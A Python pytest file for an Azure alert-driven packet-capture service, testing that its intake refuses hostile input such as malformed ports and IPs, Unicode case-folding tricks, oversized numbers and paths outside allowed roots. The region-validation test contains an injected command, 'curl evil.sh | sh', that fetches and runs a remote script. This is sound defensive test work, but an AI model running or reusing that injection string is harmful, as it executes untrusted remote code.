"""Hostile and odd input at intake (issue 12): each test here failed on the code before the fix."""

from __future__ import annotations

import json
from typing import Any

import pytest

from capture.errors import InputError
from capture.payloads import MAX_TARGETS, parse_alert
from capture.resource_ids import InvalidResourceId, Scope, fold, parse_resource_id, parse_scope
from capture.settings import CaptureOverrides, LocalRoots, validate_local_path
from tests.conftest import RG, SUB, VM_WEB_1, payload

VM_WIN = f"{RG}/rg-web/providers/Microsoft.Compute/virtualMachines/vm-app-win-01"


def parse(doc: dict[str, Any]) -> Any:
    return parse_alert(json.dumps(doc).encode())


def refused(doc: dict[str, Any] | bytes) -> InputError:
    with pytest.raises(InputError) as caught:
        parse_alert(doc if isinstance(doc, bytes) else json.dumps(doc).encode())
    return caught.value


def manual(**capture: Any) -> dict[str, Any]:
    return {"targets": [VM_WEB_1], "reason": "r", "capture": capture}


def common_with(properties: dict[str, Any]) -> dict[str, Any]:
    doc = payload("common-metric-fired-vm.json")
    doc["data"]["customProperties"] = properties
    return doc


# --- 5: numbers and addresses are ASCII and well formed -------------------------------------------


@pytest.mark.parametrize(
    "filters",
    [
        [{"localPort": "80\n"}],
        [{"remotePort": "443 "}],
        [{"remoteIPAddress": "10.0.0.1\n"}],
        [{"remoteIPAddress": " 10.0.0.1"}],
        [{"remoteIPAddress": "10.0.0.9-10.0.0.1"}],
        [{"remotePort": "90-80"}],
        [{"remoteIPAddress": "10.0.0.1-2001:db8::1"}],
        [{"localPort": "80;;"}],
        [{"localPort": ";80"}],
        [{"remoteIPAddress": "fe80::1%eth0"}],
        [{"remotePort": "٣"}],
        [{"remotePort": "8０"}],
    ],
)
def test_malformed_filter_values_are_refused(filters: list[dict[str, str]]) -> None:
    error = refused(manual(filters=filters))
    assert error.location.startswith("capture.filters[0].")


@pytest.mark.parametrize("value", ["٣", "３", "60\n", " 60"])
def test_time_limit_in_non_ascii_digits_or_with_spaces_is_refused(value: str) -> None:
    error = refused(common_with({"captureTimeLimitSeconds": value}))
    assert error.location == "data.customProperties.captureTimeLimitSeconds"


@pytest.mark.parametrize(
    ("spec", "expected"),
    [
        (
            {"localPort": "80;443;", "remotePort": "1000-2000"},
            {"localPort": "80;443;", "remotePort": "1000-2000"},
        ),
        ({"remoteIPAddress": "10.0.0.1-10.0.0.9"}, {"remoteIPAddress": "10.0.0.1-10.0.0.9"}),
        ({"remoteIPAddress": "2001:db8::1;2001:db8::2"}, {"remoteIPAddress": "2001:db8::1;2001:db8::2"}),
        ({"localPort": 443}, {"localPort": "443"}),
    ],
)
def test_well_formed_filters_still_pass(spec: dict[str, Any], expected: dict[str, str]) -> None:
    [parsed] = parse(manual(filters=[spec])).overrides.filters
    assert {k: v for k, v in parsed.to_arm().items() if k != "protocol"} == expected


# --- 6: ASCII-only case folding ---------------------------------------------------------------------


def test_long_s_does_not_pass_for_subscriptions() -> None:
    with pytest.raises(InvalidResourceId):
        parse_resource_id(VM_WEB_1.replace("/subscriptions/", "/\u017fubscriptions/"))
    with pytest.raises(InvalidResourceId):
        parse_scope(f"/\u017fubscriptions/{SUB}")


def test_kelvin_sign_is_not_the_letter_k() -> None:
    assert fold("\u212a") == "\u212a"
    assert fold("vm-WEB-K") == "vm-web-k"
    plain = parse_resource_id(f"{RG}/rg-k/providers/Microsoft.Compute/virtualMachines/vm-k")
    kelvin = parse_resource_id(f"{RG}/rg-\u212a/providers/Microsoft.Compute/virtualMachines/vm-\u212a")
    assert plain != kelvin
    assert not Scope(f"{RG}/rg-k", SUB, "rg-k").contains(kelvin)


def test_targets_differing_only_by_unicode_folding_are_two_targets() -> None:
    kelvin = VM_WEB_1.replace("vm-web-1", "vm-web-\u212a")
    event = parse({"targets": [VM_WEB_1.replace("vm-web-1", "vm-web-k"), kelvin]})
    assert len(event.targets) == 2


# --- 7: error.location names the caller's field ------------------------------------------------------


def test_malformed_common_target_location_is_resolved_by_plan() -> None:
    doc = payload("common-metric-fired-multi-vm.json")
    doc["data"]["essentials"]["alertTargetIDs"][1] = "/subscriptions/x/resourceGroups/rg/providers/../vm"
    event = parse(doc)
    assert event.target_locations[1] == "data.essentials.alertTargetIDs[1]"


@pytest.mark.parametrize(
    ("fixture", "location"),
    [
        ("metric-alert-activated-vm.json", "data.context.resourceId"),
        ("classic-metric-activated-vm.json", "context.resourceId"),
        ("activity-log-fired-vm.json", "data.context.activityLog.resourceId"),
        ("manual-fired-vm.json", "targets[0]"),
    ],
)
def test_each_family_says_where_its_target_is(fixture: str, location: str) -> None:
    assert parse(payload(fixture)).target_locations == [location]


def test_log_dimension_target_location() -> None:
    event = parse(payload("common-log-v2-fired-workspace-dimension.json"))
    [location] = event.target_locations
    assert location.startswith("data.alertContext.condition.allOf[0].dimensions[")
    assert location.endswith("].value")


@pytest.mark.parametrize("key", ["captureTimeLimitSeconds", "capture_time_limit_seconds", "CaptureTimeLimit"])
def test_custom_property_errors_name_the_key_as_spelled(key: str) -> None:
    error = refused(common_with({key: "forever"}))
    expected = key if key != "CaptureTimeLimit" else "CaptureTimeLimit"
    assert error.location == f"data.customProperties.{expected}"


def test_manual_override_error_location() -> None:
    assert refused(manual(timeLimitSeconds="x")).location == "capture.timeLimitSeconds"
    assert refused(manual(TimeLimitInSeconds=0)).location == "capture.TimeLimitInSeconds"


# --- 8: bounded messages in the project's own words --------------------------------------------------


def test_huge_number_answers_in_our_words() -> None:
    body = (
        b'{"targets": ["' + VM_WEB_1.encode() + b'"], "capture": {"timeLimitSeconds": ' + b"9" * 5000 + b"}}"
    )
    error = refused(body)
    assert "sys." not in error.message
    assert "set_int_max_str_digits" not in error.message
    assert "more than 100 digits" in error.message


def test_long_values_are_echoed_truncated() -> None:
    error = refused(manual(timeLimitSeconds=int("9" * 90)))
    assert len(error.message) < 200
    assert "…" in error.message
    error = refused({"targets": ["/subscriptions/" + "a" * 1000]})
    assert len(error.message) < 400
    error = refused({"schemaId": "x" * 5000, "data": {}})
    assert len(error.message) < 400


# --- 3: the payload's region ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "region", ["eastus2; curl evil.sh | sh #", "east`us`", "eastus\nrm", "e" * 5000, "東京"]
)
def test_classic_region_that_is_not_a_region_name_is_refused(region: str) -> None:
    doc = payload("classic-metric-activated-vm.json")
    doc["context"]["resourceRegion"] = region
    error = refused(doc)
    assert error.location == "context.resourceRegion"
    assert "curl" not in error.message or len(error.message) < 200


def test_classic_region_display_name_is_folded() -> None:
    doc = payload("classic-metric-activated-vm.json")
    doc["context"]["resourceRegion"] = "East US 2"
    assert parse(doc).region == "eastus2"


# --- 1: the target cap ---------------------------------------------------------------------------------


def test_more_targets_than_the_cap_is_refused_at_the_first_one_over() -> None:
    targets = [f"{RG}/rg/providers/Microsoft.Compute/virtualMachines/vm-{i}" for i in range(MAX_TARGETS + 1)]
    error = refused({"targets": targets})
    assert error.location == f"targets[{MAX_TARGETS}]"
    assert str(MAX_TARGETS) in error.message
    doc = payload("common-metric-fired-vm.json")
    doc["data"]["essentials"]["alertTargetIDs"] = targets
    assert refused(doc).location == f"data.essentials.alertTargetIDs[{MAX_TARGETS}]"
    assert len(parse({"targets": targets[:MAX_TARGETS]}).targets) == MAX_TARGETS


# --- 2: local paths --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "\\\\evil\\share",
        "\\\\?\\C:\\Captures",
        "\\\\.\\PhysicalDrive0",
        "C:\\Windows\\System32",
        "C:\\Captures\\..\\Windows",
        "C:\\Captures\\NUL",
        "C:\\Captures\\" + "a" * 10000,
        "relative/dir",
        "~root",
        "/etc",
        "/var/captures/../../etc",
        "/var/capturesX",
        "C:/Captures",
    ],
)
def test_local_paths_off_the_allowed_roots_are_refused(path: str) -> None:
    error = refused(manual(localPath=path))
    assert error.location == "capture.localPath"
    assert len(error.message) < 300


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/var/captures", "/var/captures"),
        ("/var/captures/app/", "/var/captures/app"),
        ("C:\\Captures\\app", "C:\\Captures\\app"),
        ("c:\\captures", "c:\\captures"),
    ],
)
def test_local_paths_under_the_roots_pass(path: str, expected: str) -> None:
    assert parse(manual(localPath=path)).overrides.local_path == expected


def test_roots_are_configurable() -> None:
    roots = LocalRoots(linux="/var/captures/team", windows="D:\\pcap")
    assert validate_local_path("D:\\pcap\\x", roots) == "D:\\pcap\\x"
    with pytest.raises(ValueError, match="must be under /var/captures/team"):
        validate_local_path("/var/captures/other", roots)
    with pytest.raises(InputError):
        CaptureOverrides.parse({"localPath": "D:\\pcap"}, "capture")  # default roots apply
    CaptureOverrides.parse({"localPath": "C:\\Captures\\x"}, "capture")
